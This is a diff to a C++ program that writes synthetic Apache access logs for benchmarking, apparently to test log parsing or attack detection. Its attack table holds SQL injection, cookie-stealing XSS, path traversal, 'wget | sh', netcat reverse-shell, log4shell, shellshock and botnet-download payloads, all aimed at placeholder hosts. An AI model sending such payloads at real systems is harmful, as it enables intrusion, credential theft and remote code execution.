@@ -1,6 +1,8 @@
 // Writes benchmark input to standard output: the same bytes for the same arguments.
-//   bench_input access-log BYTES [ADDRESSES]   Apache combined: Japanese URLs, 13 agents, 1 % attacks, times that move on
-//   bench_input dump BYTES                     mariadb-dump: extended inserts of persons and orders (generated persons)
+//   bench_input access-log BYTES [ADDRESSES]   Apache combined: Japanese URLs, 13 families of agents, 1 % attacks, times that move
+//   on bench_input attacks BYTES                  the same format, nothing but attacks; values, names and encodings differ from
+//   line to line bench_input dump BYTES                     mariadb-dump: extended inserts of persons and orders (generated
+//   persons)
 #include <cstdint>
 #include <cstdio>
 #include <cstdlib>
@@ -30,41 +32,226 @@ class Random {
   std::uint64_t state_ = 88172645463325252u;
 };
 
-constexpr std::string_view kPaths[] = {
-    "/",
-    "/products/list?category_id=3&pageno=2",
-    "/products/detail/1204",
-    "/cart",
-    "/mypage/login",
-    "/contact",
-    "/css/style.min.css",
-    "/img/logo.png",
-    "/js/app.js?v=20260801",
-    "/products/list?name=%E5%92%8C%E6%9C%8D%E3%81%AE%E8%83%8C%E5%B9%85",
-    "/search?q=%E4%BC%9A%E7%A4%BE+%E6%98%8E%E7%B4%B0",
-    "/news/2026/08/summer-sale",
-    "/wp-content/uploads/2026/07/photo_0123.jpg",
-    "/search?q=%E3%83%81%E3%83%A7%E3%82%B3%E3%83%AC%E3%83%BC%E3%83%88%20%E8%A9%B0%E3%82%81%E5%90%88%E3%82%8F%E3%81%9B",
-    "/robots.txt"};
-constexpr std::string_view kAttacks[] = {"/?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20",
-                                         "/index.php?page=../../../../etc/passwd",
-                                         "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
-                                         "/.env",
-                                         "/?x=${jndi:ldap://203.0.113.5/a}",
-                                         "/wp-login.php",
-                                         "/.git/config",
-                                         "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array",
-                                         "/?cmd=;cat%20/etc/passwd",
-                                         "/phpmyadmin/"};
+// --- what visitors ask for: {n} a number, {w} a Japanese word, {t} a token ---
+constexpr std::string_view kPaths[] = {"/",
+                                       "/products/list?category_id={n}&pageno=2",
+                                       "/products/detail/{n}",
+                                       "/products/detail/{n}?utm_source=mail&utm_campaign=summer_{n}",
+                                       "/cart",
+                                       "/cart/add?product={n}&quantity=1&token={t}",
+                                       "/mypage/login",
+                                       "/mypage/history/{n}",
+                                       "/contact",
+                                       "/shopping/confirm?order={n}",
+                                       "/css/style.min.css?v={n}",
+                                       "/img/logo.png",
+                                       "/js/app.js?v=20260801",
+                                       "/upload/save_image/{n}_{t}.jpg",
+                                       "/products/list?name={w}",
+                                       "/products/list?name={w}%E3%80%80{w}&orderby=price",
+                                       "/search?q={w}+{w}",
+                                       "/search?q={w}%20{w}%20{n}",
+                                       "/{w}/{w}",
+                                       "/news/2026/08/summer-sale",
+                                       "/wp-content/uploads/2026/07/photo_{n}.jpg",
+                                       "/blog/archives/{n}/{w}",
+                                       "/api/v1/stock?ids={n},{n},{n}",
+                                       "/robots.txt"};
+constexpr std::string_view kWords[] = {"和服の背幅", "会社明細", "チョコレート",   "詰め合わせ", "送料無料", "北海道",
+                                       "お歳暮",     "りんご",   "贈り物",         "抹茶",       "日本酒",   "包丁",
+                                       "陶器",       "ギフト",   "内祝い",         "予約",       "福袋",     "ワンピース",
+                                       "靴",         "眼鏡",     "ふるさと",       "米",         "味噌",     "選び方",
+                                       "サイズ表",   "返品方法", "営業カレンダー", "定休日",     "浴衣",     "手ぬぐい"};
+constexpr std::string_view kReferers[] = {"-",
+                                          "-",
+                                          "https://shop.example/",
+                                          "https://shop.example/products/list",
+                                          "https://shop.example/products/list?category_id={n}&pageno={n}",
+                                          "https://shop.example/products/detail/{n}",
+                                          "https://shop.example/search?q={w}",
+                                          "https://www.google.com/"};
+// Thirteen families; {v} is where versions differ.
 constexpr std::string_view kAgents[] = {
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 "
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1{v}.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1{v}.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 14; SO-{v}D) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/{v}E148 "
     "Safari/604.1",
-    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
-    "Mozilla/5.0 (Linux; Android 14; SO-52D) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari "
+    "Line/14.{v}.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.{v}",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/1{v}.0",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/1{v}.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1{v}.0.0.0 Safari/537.36 "
+    "Edg/1{v}.0.0.0",
+    "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.{v} "
+    "Chrome/121.0.0.0 "
+    "Mobile Safari/537.36",
     "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
-    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"};
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/1{v}.0.6478.71 Mobile "
+    "Safari/537.36 Instagram 3{v}.0.0.34.111 Android"};
+
+// --- attacks: {n} a number, {v} a version, {t} a token, {h} a host, {a} an address, {u} steps upwards ---
+enum class Place {
+  kTarget,   ///< the target as it stands
+  kValue,    ///< the value of a parameter, in some encoding
+  kPosted,   ///< the target of a POST
+  kAgent,    ///< the user agent
+  kReferer,  ///< the referer
+};
+struct Attack {
+  Place place;
+  std::string_view text;
+};
+constexpr Attack kAttacks[] = {
+    // SQL injection
+    {Place::kValue, "{n}' UNION SELECT {n},user_login,user_pass FROM wp_users-- {t}"},
+    {Place::kValue, "-{n} union all select null,concat(0x7e,version(),0x7e),{n}#"},
+    {Place::kValue, "{t}' OR '{n}'='{n}"},
+    {Place::kValue, "{n} AND (SELECT {n} FROM (SELECT(SLEEP(5))){t})"},
+    {Place::kValue, "{n}' AND EXTRACTVALUE({n},CONCAT(0x5c,(SELECT database())))-- {t}"},
+    {Place::kValue, "{n};WAITFOR DELAY '0:0:5'--"},
+    {Place::kValue, "{n}' ORDER BY {n}-- {t}"},
+    {Place::kValue, "{n} UNION SELECT table_name,{n} FROM information_schema.tables WHERE table_schema='{t}'"},
+    {Place::kValue, "{t}'; DROP TABLE {t}; --"},
+    {Place::kValue, "{n}') AND BENCHMARK({n}000000,MD5('{t}')) AND ('{t}'='{t}"},
+    // cross-site scripting
+    {Place::kValue, "<script>alert({n})</script>"},
+    {Place::kValue, "\"><img src=x onerror=alert('{t}')>"},
+    {Place::kValue, "<svg/onload=fetch('https://{h}/{t}')>"},
+    {Place::kValue, "javascript:document.location='https://{h}/?c='+document.cookie"},
+    {Place::kValue, "'\"><body onload=prompt({n})>{t}"},
+    {Place::kValue, "<iframe src=\"javascript:alert({n})\"></iframe>"},
+    // inclusion of files
+    {Place::kValue, "{u}etc/passwd"},
+    {Place::kValue, std::string_view("{u}etc/shadow\0{t}.html", 22)},
+    {Place::kValue, "php://filter/convert.base64-encode/resource={t}.php"},
+    {Place::kValue, "http://{h}/{t}.txt?"},
+    {Place::kValue, "{u}windows/win.ini"},
+    {Place::kValue, "file:///proc/self/environ?{t}"},
+    {Place::kTarget, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd?{t}"},
+    // execution of commands and code
+    {Place::kValue, ";cat /etc/passwd;echo {t}"},
+    {Place::kValue, "|wget http://{a}/{t}.sh -O- | sh"},
+    {Place::kValue, "$(curl -s http://{h}/{t})"},
+    {Place::kValue, "`id`;ping -c {n} {a}"},
+    {Place::kValue, "system('nc -e /bin/sh {a} {n}');"},
+    {Place::kValue, "{{{n}*{n}}}${T(java.lang.Runtime).getRuntime().exec('{t}')}"},
+    {Place::kValue, "O:8:\"{t}\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"},
+    // log4shell
+    {Place::kValue, "${jndi:ldap://{a}:1389/{t}}"},
+    {Place::kValue, "${${lower:j}ndi:${lower:l}dap://{h}/{t}}"},
+    {Place::kAgent, "${jndi:dns://{t}.{h}/{n}}"},
+    {Place::kReferer, "${${::-j}${::-n}${::-d}${::-i}:rmi://{a}:{n}/{t}}"},
+    // shellshock
+    {Place::kAgent, "() { :; }; /bin/bash -c 'curl http://{a}/{t}'"},
+    {Place::kReferer, "() { {t};}; echo; /usr/bin/id"},
+    // what products are known for
+    {Place::kTarget, "/index.php?s=/index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={t}"},
+    {Place::kPosted, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?{t}"},
+    {Place::kPosted, "/cgi-bin/php?%2Dd+allow_url_include%3Don+%2Dd+auto_prepend_file%3Dphp%3A%2F%2Finput&{t}"},
+    {Place::kTarget, "/actuator/gateway/routes/{t}"},
+    {Place::kTarget, "/solr/admin/cores?action=CREATE&name={t}&config=http://{h}/{t}.xml"},
+    {Place::kTarget, "/shell?cd+/tmp;rm+-rf+*;wget+http://{a}/{t}.arm7;chmod+777+{t}.arm7;./{t}.arm7"},
+    {Place::kTarget, "/phpmyadmin/index.php?lang=en&pma_username=root&pma_password={t}"},
+    // files that nobody asks for by accident
+    {Place::kTarget, "/.env?{t}"},
+    {Place::kTarget, "/{t}/.env.production"},
+    {Place::kTarget, "/.git/config?{n}"},
+    {Place::kTarget, "/{t}/.git/HEAD"},
+    {Place::kTarget, "/wp-config.php.bak?{n}"},
+    {Place::kTarget, "/backup/{t}.sql.gz"},
+    // guessing of passwords and of names
+    {Place::kPosted, "/wp-login.php"},
+    {Place::kPosted, "/xmlrpc.php"},
+    {Place::kTarget, "/?author={n}"},
+    {Place::kTarget, "/wp-json/wp/v2/users/?per_page=100&page={n}"},
+};
+constexpr std::string_view kAttackedPaths[] = {"/",         "/index.php", "/search",   "/products/list", "/products/detail/{n}",
+                                               "/news.php", "/blog/{n}",  "/download", "/api/v1/{t}",    "/contact"};
+constexpr std::string_view kParameters[] = {"id",   "q",   "page", "file", "cat",  "name", "item",
+                                            "lang", "url", "ref",  "key",  "view", "{t}"};
+constexpr std::string_view kAttackAgents[] = {"curl/8.{v}.1",          "python-requests/2.{v}.0",
+                                              "Go-http-client/1.1",    "sqlmap/1.7.{v}#stable (https://sqlmap.org)",
+                                              "Mozilla/5.0 zgrab/0.x", "-"};
 constexpr std::string_view kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
+
+bool letter_or_digit(unsigned char c) { return (c >= '0' && c <= '9') || ((c | 32) >= 'a' && (c | 32) <= 'z'); }
+
+void percent(std::string& out, unsigned char c, bool small) {
+  const char* digits = small ? "0123456789abcdef" : "0123456789ABCDEF";
+  (out += '%') += digits[c >> 4];
+  out += digits[c & 15];
+}
+
+// The text with its blanks filled. What stands in braces and is no blank stays as it is.
+void fill(Random& random, std::string_view text, std::string& out) {
+  constexpr std::string_view kLetters = "abcdefghijklmnopqrstuvwxyz234567";
+  for (std::size_t i = 0; i < text.size(); ++i) {
+    if (text[i] != '{' || i + 2 >= text.size() || text[i + 2] != '}') {
+      out += text[i];
+      continue;
+    }
+    switch (text[i + 1]) {
+      case 'n':
+        fmt::format_to(std::back_inserter(out), "{}", 1 + random.below(20'000));
+        break;
+      case 'v':
+        fmt::format_to(std::back_inserter(out), "{}", 10 + random.below(20));
+        break;
+      case 'a':
+        fmt::format_to(std::back_inserter(out), "203.0.113.{}", random.below(256));
+        break;
+      case 'h':
+        fmt::format_to(std::back_inserter(out), "c{}.callback.example", random.below(10'000));
+        break;
+      case 't':
+        for (std::uint64_t bits = random.next() >> 8, n = 6 + bits % 6; n != 0; --n, bits /= 32) out += kLetters[bits / 8 % 32];
+        break;
+      case 'u':
+        for (std::uint64_t n = 3 + random.below(8); n != 0; --n) out += "../";
+        break;
+      case 'w':
+        for (const char c : random.pick(kWords)) percent(out, static_cast<unsigned char>(c), false);
+        break;
+      default:
+        out += text.substr(i, 3);
+    }
+    i += 2;
+  }
+}
+
+// As clients write a value: what must be encoded is, or everything but letters and digits, once or twice.
+void write_value(Random& random, std::string_view value, std::string& out) {
+  const std::uint64_t way = random.below(16);
+  for (const char c : value) {
+    const unsigned char byte = static_cast<unsigned char>(c);
+    if (way < 8) {
+      if (c == ' ' && way < 3) {
+        out += '+';
+      } else if (byte <= ' ' || byte > 126 || std::string_view("\"\\<>#&%+`^").contains(c)) {
+        percent(out, byte, way % 2 == 0);
+      } else {
+        out += c;
+      }
+    } else if (letter_or_digit(byte)) {
+      out += c;
+    } else {
+      const std::size_t at = out.size();
+      percent(out, byte, way % 2 == 0);
+      if (way == 15) out.insert(at + 1, "25");
+    }
+  }
+}
+
+// As Apache writes text into its log.
+void write_escaped(std::string_view text, std::string& out) {
+  for (const char c : text) {
+    if (c == '"' || c == '\\') out += '\\';
+    out += c;
+  }
+}
 
 class Output {
  public:
@@ -85,24 +272,57 @@ class Output {
   std::string buffer_;
 };
 
-void access_log(Output& out, std::uint64_t addresses) {
+// One line in `attacks_of` is an attack.
+void access_log(Output& out, std::uint64_t addresses, std::uint64_t attackers, std::uint64_t attacks_of) {
   Random random;
   hinomi::Timestamp time = hinomi::Timestamp::from_seconds(1'785'542'400);
+  std::string target, value, referer, agent;
   for (std::uint64_t i = 0; !out.full(); ++i) {
     if (i % 7 == 0) time.micros += hinomi::kMicrosPerSecond;
     const hinomi::CivilTime t = hinomi::to_civil(time, hinomi::kJst);
-    const bool attack = random.below(100) == 0;
+    const bool attack = random.below(attacks_of) == 0;
     // Visitors are many and skewed; attackers are few.
     const std::uint64_t visitor =
-        attack ? addresses + random.below(400) : random.below(addresses) * random.below(addresses) / addresses;
+        attack ? addresses + random.below(attackers) : random.below(addresses) * random.below(addresses) / addresses;
     const std::uint32_t ip = static_cast<std::uint32_t>(0x0b000000 + visitor * 97);
-    const std::string_view path = attack ? random.pick(kAttacks) : random.pick(kPaths);
-    const int status = attack ? (random.below(3) != 0 ? 404 : 403) : (random.below(20) == 0 ? 304 : 200);
+    std::string_view method = "GET";
+    int status = 200;
+    target.clear(), value.clear(), referer.clear(), agent.clear();
+    if (attack) {
+      const Attack& what = kAttacks[random.below(std::size(kAttacks))];
+      fill(random, what.text, value);
+      if (what.place == Place::kTarget || what.place == Place::kPosted) {
+        target = value;
+      } else {
+        fill(random, random.pick(kAttackedPaths), target);
+        target += '?';
+        fill(random, random.pick(kParameters), target);
+        target += '=';
+        if (what.place == Place::kValue) {
+          write_value(random, value, target);
+        } else {
+          fill(random, "{n}", target);
+        }
+      }
+      if (what.place == Place::kPosted) method = "POST";
+      if (what.place == Place::kAgent) {
+        write_escaped(value, agent);
+      } else if (random.below(3) == 0) {
+        fill(random, random.pick(kAttackAgents), agent);
+      }
+      if (what.place == Place::kReferer) write_escaped(value, referer);
+      constexpr int kStatuses[] = {404, 404, 404, 403, 200, 302, 500};
+      status = method == "POST" ? 200 : kStatuses[random.below(std::size(kStatuses))];
+    } else {
+      fill(random, random.pick(kPaths), target);
+      fill(random, random.pick(kReferers), referer);
+      if (random.below(20) == 0) status = 304;
+    }
+    if (agent.empty()) fill(random, random.pick(kAgents), agent);
     fmt::format_to(std::back_inserter(out.buffer()),
-                   "{}.{}.{}.{} - - [{:02}/{}/{:04}:{:02}:{:02}:{:02} +0900] \"GET {} HTTP/1.1\" {} {} \"{}\" \"{}\"\n", ip >> 24,
-                   ip >> 16 & 255, ip >> 8 & 255, ip & 255, t.day, kMonths[t.month - 1], t.year, t.hour, t.minute, t.second, path,
-                   status, 500 + random.below(40'000), random.below(3) == 0 ? "-" : "https://shop.example/products/list",
-                   random.pick(kAgents));
+                   "{}.{}.{}.{} - - [{:02}/{}/{:04}:{:02}:{:02}:{:02} +0900] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"\n", ip >> 24,
+                   ip >> 16 & 255, ip >> 8 & 255, ip & 255, t.day, kMonths[t.month - 1], t.year, t.hour, t.minute, t.second, method,
+                   target, status, 500 + random.below(40'000), referer.empty() ? "-" : referer, agent);
   }
 }
 
@@ -144,16 +364,16 @@ void dump(Output& out) {
 }  // namespace
 
 int main(int argc, char** argv) {
-  if (argc < 3) {
-    std::fputs("usage: bench_input access-log|dump BYTES [ADDRESSES]\n", stderr);
-    return 2;
-  }
-  Output out(std::strtoull(argv[2], nullptr, 10));
-  if (std::string_view(argv[1]) == "access-log") {
-    access_log(out, argc > 3 ? std::strtoull(argv[3], nullptr, 10) : 200'000);
-  } else if (std::string_view(argv[1]) == "dump") {
+  const std::string_view what = argc < 3 ? "" : argv[1];
+  Output out(argc < 3 ? 0 : std::strtoull(argv[2], nullptr, 10));
+  if (what == "access-log") {
+    access_log(out, argc > 3 ? std::strtoull(argv[3], nullptr, 10) : 200'000, 400, 100);
+  } else if (what == "attacks") {
+    access_log(out, 200'000, 4'000, 1);
+  } else if (what == "dump") {
     dump(out);
   } else {
+    std::fputs("usage: bench_input access-log|attacks|dump BYTES [ADDRESSES]\n", stderr);
     return 2;
   }
   out.flush();
